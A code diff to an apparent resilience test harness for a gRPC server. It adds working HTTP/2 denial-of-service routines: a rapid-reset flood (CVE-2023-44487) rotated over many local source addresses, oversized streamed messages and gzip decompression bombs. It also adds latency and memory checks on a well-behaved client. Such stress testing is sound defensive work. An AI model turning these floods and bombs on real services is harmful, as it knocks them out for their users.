@@ -6,11 +6,14 @@ a connection of its own, and whether it serves afterwards.
 """
 
 import contextlib
+import itertools
+import os
 import resource
 import select
 import socket
 import threading
 import time
+import zlib
 
 import grpc
 import raw_http2
@@ -37,20 +40,31 @@ SUBMIT = "/swoosh.v1.Orchestrator/Submit"
 REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 CONNECTIONS = 10_000
 FEW_CONNECTIONS = 8
+FEW_STREAMS = 16
+SLICE_BYTES = 1 << 16
+GOES_ON_BYTES = 16 << 20
+BOMB_MIB = 400
+# Where attackers come from: addresses of this machine, so that what is done about them does not
+# fall on the well-behaved client, who has 127.0.0.1.
+SOURCES = [f"127.0.1.{number}" for number in range(1, 251)]
 BATCH = 100
 MESSAGE_BYTES_MAX = 4 * 1024 * 1024
 INSTANCES = 1_000
 CONTEXT_BYTES = 4_000
-RSS_MIB_MAX = 2_048
+# What all limits on clients come to, with what the process has without them (SECURITY.md).
+# Sanitizers take a multiple.
+RSS_MIB_MAX = 1_024 * (8 if "ASAN_OPTIONS" in os.environ or "TSAN_OPTIONS" in os.environ else 1)
 GOOD_PAUSE_SECONDS = 0.005
 CALL_SECONDS_MAX = 30
 
 
-def _again(address, end, attack):
-    """Runs attack(connection) on a connection after the other, until it is time."""
-    done = 0
+def _again(address, end, attack, sources=SOURCES[:1]):
+    """Runs attack(connection) on a connection after the other, until it is time, each from the
+    next address."""
+    done, sources = 0, itertools.cycle(sources)
     while time.monotonic() < end:
-        with contextlib.suppress(OSError), Connection(address) as connection:
+        source = next(sources)
+        with contextlib.suppress(OSError), Connection(address, source=source) as connection:
             while time.monotonic() < end:
                 count, goes_on = attack(connection)
                 done += count
@@ -61,19 +75,24 @@ def _again(address, end, attack):
 
 def rapid_reset(address, end):
     """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
+    return _again(address, end, _resets)
+
+
+def rapid_reset_of_many(address, end):
+    """The same, from one address after the other."""
+    return _again(address, end, _resets, SOURCES)
+
+
+def _resets(connection):
     headers = raw_http2.call_headers(GET_STATE)
     reset = CANCEL.to_bytes(4, "big")
-
-    def attack(connection):
-        batch = b""
-        for _ in range(BATCH):
-            stream = connection.stream()
-            batch += frame(HEADERS, END_HEADERS, stream, headers)
-            batch += frame(DATA, END_STREAM, stream, raw_http2.message(b""))
-            batch += frame(RST_STREAM, 0, stream, reset)
-        return BATCH, connection.send(batch)
-
-    return _again(address, end, attack)
+    batch = b""
+    for _ in range(BATCH):
+        stream = connection.stream()
+        batch += frame(HEADERS, END_HEADERS, stream, headers)
+        batch += frame(DATA, END_STREAM, stream, raw_http2.message(b""))
+        batch += frame(RST_STREAM, 0, stream, reset)
+    return BATCH, connection.send(batch)
 
 
 def header_flood(address, end):
@@ -100,7 +119,7 @@ def header_bomb(address, end):
         block = raw_http2.call_headers(GET_STATE)
         block += raw_http2.indexed_literal(b"x-bomb", b"y" * 3_900) + raw_http2.indexed(62) * 1_000
         stream = connection.stream()
-        return 1, connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
+        return 1, connection.send(frame(HEADERS, END_HEADERS, stream, block))
 
     return _again(address, end, attack)
 
@@ -115,7 +134,8 @@ def settings_flood(address, end):
     """Settings, each of which is to be acknowledged, to a client that does not read."""
     done = 0
     while time.monotonic() < end:
-        with contextlib.suppress(OSError), Connection(address, receive_bytes=4_096) as connection:
+        slow = Connection(address, receive_bytes=4_096, source=SOURCES[0])
+        with contextlib.suppress(OSError), slow as connection:
             connection.socket.settimeout(0.5)
             while time.monotonic() < end and connection.send(frame(SETTINGS, 0, 0) * BATCH):
                 done += BATCH
@@ -129,7 +149,8 @@ def connections(address, end):
     try:
         while len(held) < CONNECTIONS and time.monotonic() < end:
             with contextlib.suppress(OSError):
-                each = socket.create_connection((host, int(port)), timeout=5)
+                source = SOURCES[len(held) * len(SOURCES) // CONNECTIONS]
+                each = socket.create_connection((host, int(port)), 5, (source, 0))
                 held.append(each)
                 if len(held) % 2 == 0:
                     each.sendall(raw_http2.PREFACE + raw_http2.settings())
@@ -145,9 +166,13 @@ def _on_few(address, end, begin):
     server may close them; what was begun is counted."""
     held, done = [], 0
     try:
-        for _ in range(FEW_CONNECTIONS):
+        for source in SOURCES[:FEW_CONNECTIONS]:
             with contextlib.suppress(OSError):
-                held.append(Connection(address, receive_bytes=4_096, initial_window_size=0))
+                held.append(
+                    Connection(
+                        address, receive_bytes=4_096, source=source, initial_window_size=0
+                    )
+                )
                 done += begin(held[-1], end)
         time.sleep(max(0, end - time.monotonic()))
         return done
@@ -195,6 +220,52 @@ def half_messages(address, end):
     return _on_few(address, end, begin)
 
 
+def send_as_taken(connection, end, messages):
+    """Sends messages, {stream: bytes}, as far as the windows let them; returns how much."""
+    sent = dict.fromkeys(messages, 0)
+    while connection.learn(0.001) and time.monotonic() < end:
+        goes_on = True
+        while goes_on:
+            goes_on = False
+            for stream, data in messages.items():
+                count = connection.send_data(stream, data[sent[stream] :][:SLICE_BYTES])
+                sent[stream] += count
+                goes_on = goes_on or count > 0
+    return sum(sent.values())
+
+
+def endless_messages(address, end):
+    """Messages of 1 GiB, of which all is sent that the windows take: few calls, many bytes."""
+    begun = memoryview(raw_http2.message(bytes(GOES_ON_BYTES), 1 << 30))
+
+    def attack(connection):
+        streams = [connection.stream() for _ in range(FEW_STREAMS)]
+        headers = raw_http2.call_headers(SUBMIT)
+        connection.send(b"".join(frame(HEADERS, END_HEADERS, each, headers) for each in streams))
+        return send_as_taken(connection, end, dict.fromkeys(streams, begun)) >> 10, False
+
+    return _again(address, end, attack, SOURCES)
+
+
+def compressed_bombs(address, end):
+    """Messages of some hundred kilobytes that are to come to be a thousand times that."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
+    # Each as good as the one before, and there is no last one: it unpacks all the same.
+    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
+    packed = first + again * (BOMB_MIB - 1)
+    bomb = memoryview(raw_http2.message(packed, compressed=True))
+    headers = raw_http2.call_headers(SUBMIT) + raw_http2.literal(b"grpc-encoding", b"gzip")
+
+    def attack(connection):
+        streams = [connection.stream() for _ in range(FEW_STREAMS)]
+        connection.send(b"".join(frame(HEADERS, END_HEADERS, each, headers) for each in streams))
+        sent = send_as_taken(connection, end, dict.fromkeys(streams, bomb))
+        return sent // len(bomb), False
+
+    return _again(address, end, attack, SOURCES)
+
+
 def reflection(address, end):
     """Streams of the one service that takes a thread for each."""
 
@@ -229,7 +300,11 @@ def garbage(address, end):
     host, _, port = address.rpartition(":")
     done = 0
     while time.monotonic() < end:
-        with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 5) as each:
+        source = (SOURCES[0], 0)
+        with (
+            contextlib.suppress(OSError),
+            socket.create_connection((host, int(port)), 5, source) as each,
+        ):
             each.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + bytes(range(256)) * 16)
             select.select([each], [], [], 1)
             done += 1
@@ -238,6 +313,7 @@ def garbage(address, end):
 
 ATTACKS = (
     rapid_reset,
+    rapid_reset_of_many,
     header_flood,
     header_bomb,
     ping_flood,
@@ -245,6 +321,8 @@ ATTACKS = (
     connections,
     slow_readers,
     half_messages,
+    endless_messages,
+    compressed_bombs,
     reflection,
     oversize,
     garbage,
@@ -328,8 +406,18 @@ def serves(server):
             return False
 
 
-def run(server, attack, seconds):
-    """What an attack (None: nobody's) of so many seconds came to."""
+def _quiet(server, seconds):
+    """The good client of so many seconds without an attack."""
+    good = GoodClient(server)
+    time.sleep(seconds)
+    good.stop()
+    return good
+
+
+def run(server, attack, seconds, quiet_seconds=0):
+    """What an attack (None: nobody's) of so many seconds came to; and what the good client sees
+    in `quiet_seconds` before it and after it, on the same server."""
+    quiet = _quiet(server, quiet_seconds)
     forget_most_memory(server)
     before = memory_bytes(server, "VmRSS")
     good = GoodClient(server)
@@ -342,18 +430,44 @@ def run(server, attack, seconds):
             done = attack(server.grpc_address, end)
     finally:
         good.stop()
+    most = memory_bytes(server, "VmHWM")
+    does_serve = serves(server)
+    quiet.seconds += _quiet(server, quiet_seconds).seconds
+    return (
+        {
+            "attack": attack.__name__ if attack else "none",
+            "done": done,
+            "rss_mib_before": before >> 20,
+            "rss_mib_most": most >> 20,
+            "rss_mib_after": memory_bytes(server, "VmRSS") >> 20,
+            "cut": _connections(server, "cut"),
+            "refused": _connections(server, "refused"),
+            "good_calls": len(good.seconds),
+            "good_failed": len(good.failed),
+            "quiet_p50_ms": quiet.milliseconds(0.5),
+            "good_p50_ms": good.milliseconds(0.5),
+            "quiet_p99_ms": quiet.milliseconds(0.99),
+            "good_p99_ms": good.milliseconds(0.99),
+            "good_most_ms": good.milliseconds(1),
+            "serves": does_serve,
+        }
+        | ({"good_p99_ratio": _ratio(good, quiet)} if quiet.seconds and good.seconds else {})
+        | ({"first_failure": good.failed[0]} if good.failed else {})
+    )
+
+
+def _ratio(good, quiet):
+    return round(good.milliseconds(0.99) / quiet.milliseconds(0.99), 2)
+
+
+def _connections(server, what):
+    """How many connections were cut off or refused, by the limit that they met."""
+    begin = f'swoosh_connections_{what}_total{{limit="'
     return {
-        "attack": attack.__name__ if attack else "none",
-        "done": done,
-        "rss_mib_before": before >> 20,
-        "rss_mib_most": memory_bytes(server, "VmHWM") >> 20,
-        "good_calls": len(good.seconds),
-        "good_failed": len(good.failed),
-        "good_p50_ms": good.milliseconds(0.5),
-        "good_p99_ms": good.milliseconds(0.99),
-        "good_most_ms": good.milliseconds(1),
-        "serves": serves(server),
-    } | ({"first_failure": good.failed[0]} if good.failed else {})
+        name[len(begin) :].rstrip('"}'): int(number)
+        for name, number in server.metrics().items()
+        if name.startswith(begin) and number
+    }
 
 
 def violations(result):
